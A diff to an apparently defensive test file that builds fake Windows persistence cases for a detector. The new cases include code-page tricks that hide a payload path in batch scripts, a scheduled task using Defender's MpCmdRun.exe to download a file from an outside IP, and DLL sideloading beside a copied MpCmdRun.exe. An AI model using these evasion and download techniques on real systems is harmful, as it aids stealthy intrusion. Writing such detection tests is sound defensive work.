@@ -8,9 +8,11 @@ CLASS = '{DEADBEEF-1111-2222-3333-444455556666}'
 POWERSHELL = r'WindowsPowerShell\v1.0\powershell.exe'
 
 
-def task(name, why, place, *action, programs=(), payload=None, files=(), path=r'\Update', **more):
+def task(name, why, place, *action, programs=(), payload=None, files=(), honest=(), path=r'\Update', **more):
     def make(d):
         d.windows(*programs)
+        for signed_program in honest:
+            d.honest(signed_program)
         if payload:
             d.foreign(payload)
         for file, data in files:
@@ -38,6 +40,33 @@ task('task-of-the-registry-alone', 'The scheduler takes tasks from the registry;
 task('task-with-another-file', 'The scheduler takes the registry\'s action, and who looks at the file sees another.', 'x.exe', EVIL, payload=EVIL,
      in_file=r'C:\Windows\System32\svchost.exe')
 task('program-of-the-users-folder', 'A folder that users may write to.', 'x.exe', r'C:\Users\Public\x.exe', payload=r'C:\Users\Public\x.exe')
+
+
+def in_code_page(name, why, head, page):
+    """A script whose bytes name a program of code page 936."""
+    program_of_it = r'C:\ProgramData\备份\x.exe'
+    def make(d):
+        d.windows('cmd.exe')
+        d.foreign(program_of_it)
+        d.system(rf'{CONTROL}\Nls\CodePage', 'OEMCP', SZ, page)
+        d.put(r'ProgramData\x\a.bat', (head + program_of_it + '\r\n').encode('gbk'))
+        d.task(r'\Update', r'C:\ProgramData\x\a.bat')
+    change.row(name, why, CHECK, 'Actions', make)
+
+
+in_code_page('program-in-the-code-page-of-the-system', 'cmd.exe reads scripts in the code page of consoles.', '', '936')
+in_code_page('program-in-a-code-page-of-its-own', 'chcp sets the code page for the rest of the script.', '@echo off\r\nchcp 936\r\n', '437')
+in_code_page('program-behind-a-second-code-page', 'What two pages read can\'t be told.', 'chcp 437\r\nchcp 936\r\n', '437')
+task('defender-that-fetches', 'MpCmdRun.exe fetches a file.', 'Update', r'C:\Program Files\Windows Defender\MpCmdRun.exe', r'-DownloadFile -url http://203.0.113.7/a -path C:\x.exe',
+     honest=[r'C:\Program Files\Windows Defender\MpCmdRun.exe'])
+
+
+@change(CHECK, 'MpClient.dll')
+def library_beside_defender(d):
+    """A copy of MpCmdRun.exe loads MpClient.dll from its own folder."""
+    d.honest(r'C:\ProgramData\x\MpCmdRun.exe')
+    d.foreign(r'C:\ProgramData\x\MpClient.dll')
+    d.task(r'\Microsoft\Windows\Windows Defender\Windows Defender Cleanup', r'C:\ProgramData\x\MpCmdRun.exe', '-IdleTask -TaskName WdCleanup')
 
 
 @change(CHECK, 'x.dll')
